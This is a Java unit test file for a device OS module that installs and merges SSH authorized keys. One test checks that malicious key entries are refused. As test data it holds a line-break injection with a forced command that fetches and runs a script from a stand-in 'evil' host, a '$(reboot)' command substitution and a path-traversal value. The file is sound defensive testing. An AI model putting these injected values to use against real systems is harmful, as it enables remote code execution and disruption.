package io.hostmesh.ssh;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.hostmesh.schema.config.ConfigError;
import io.hostmesh.schema.config.ConfigTopics;
import io.hostmesh.schema.config.Projections.SshKeysConfig;
import io.hostmesh.schema.unit.UnitState;
import io.hostmesh.testing.SimDevice;
import io.vertx.core.Vertx;
import io.vertx.junit5.Timeout;
import io.vertx.junit5.VertxExtension;
import java.nio.file.Files;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

@ExtendWith(VertxExtension.class)
@Timeout(value = 30, timeUnit = TimeUnit.SECONDS)
class OsSshKeysTest {
  private static final String ALICE = SshFixture.publicKey(SshFixture.ALICE);
  private static final String MALLORY = SshFixture.publicKey(SshFixture.MALLORY);

  private static SimDevice device(Vertx vertx) {
    return SimDevice.builder(vertx).unit(OsSshKeysUnit::new).external(ConfigTopics.SSH_KEYS).build();
  }

  @Test
  void keysBecomeAuthorizedKeysLocalAndAreMerged(Vertx vertx) throws Exception {
    try (SimDevice dev = device(vertx)) {
      dev.writeFile("/home/root/.ssh/authorized_keys_remote", "ssh-ed25519 AAAAremote cloud\n");
      dev.bus().publish(ConfigTopics.SSH_KEYS, new SshKeysConfig(List.of(ALICE, MALLORY)));
      dev.start().await();
      dev.awaitUnit("os-sshkeys", UnitState.ACTIVE).await();

      assertEquals(ALICE + "\n" + MALLORY + "\n", dev.readFile("/home/root/.ssh/authorized_keys_local"));
      assertEquals("rw-------", PosixFilePermissions.toString(
          Files.getPosixFilePermissions(dev.path("/home/root/.ssh/authorized_keys_local"))));
      assertEquals("\n# From /home/root/.ssh/authorized_keys_remote\nssh-ed25519 AAAAremote cloud\n"
          + "# From /home/root/.ssh/authorized_keys_local\n" + ALICE + "\n" + MALLORY + "\n",
          dev.readFile("/home/root/.ssh/authorized_keys"));
      assertTrue(dev.logged("os-sshkeys", "Setting up custom SSH public keys..."));
      assertTrue(dev.logged("os-sshkeys", "Done."));

      // the same keys again: nothing to do
      dev.bus().publish(ConfigTopics.SSH_KEYS, new SshKeysConfig(List.of(ALICE, MALLORY)));
      dev.awaitLog("os-sshkeys", "Custom SSH public keys already in place.").await();

      // keys removed from config.json: the local file goes, the merged one keeps the remote keys only
      dev.bus().publish(ConfigTopics.SSH_KEYS, new SshKeysConfig(null));
      dev.awaitLog("os-sshkeys", "No custom SSH public keys configured.").await();
      String remoteOnly = "\n# From /home/root/.ssh/authorized_keys_remote\nssh-ed25519 AAAAremote cloud\n";
      SshFixture.poll(vertx, () -> remoteOnly.equals(dev.readFile("/home/root/.ssh/authorized_keys"))).await();
      assertFalse(Files.exists(dev.path("/home/root/.ssh/authorized_keys_local")));
      dev.stop().await();
    }
  }

  @Test
  void invalidKeysAreRefusedWithAConfigErrorAndTheValidOnesKept(Vertx vertx) throws Exception {
    try (SimDevice dev = device(vertx)) {
      List<ConfigError> errors = new CopyOnWriteArrayList<>();
      dev.bus().subscribe(ConfigTopics.CONFIG_ERROR, errors::add).completion().await();
      String injected = ALICE + "\ncommand=\"curl evil | sh\" " + MALLORY.substring(0, MALLORY.lastIndexOf(' '));
      List<String> keys = new ArrayList<>(Arrays.asList(ALICE, injected, "$(reboot)", "ssh-ed25519 ../../etc/passwd"));
      dev.bus().publish(ConfigTopics.SSH_KEYS, new SshKeysConfig(keys));
      dev.start().await();
      dev.awaitUnit("os-sshkeys", UnitState.ACTIVE).await();

      assertEquals(ALICE + "\n", dev.readFile("/home/root/.ssh/authorized_keys_local"));
      assertEquals(List.of("/os/sshKeys/1", "/os/sshKeys/2", "/os/sshKeys/3"), errors.stream().map(ConfigError::path).toList());
      assertTrue(errors.get(0).reason().contains("line break"), errors.get(0).reason());
      assertTrue(errors.stream().allMatch(e -> e.unit().equals("os-sshkeys") && e.file().equals("/mnt/boot/config.json")));
      assertTrue(dev.logged("os-sshkeys", "Refusing SSH public key /os/sshKeys/1"));
      assertFalse(dev.readFile("/home/root/.ssh/authorized_keys").contains("curl"));
      dev.stop().await();
    }
  }
}
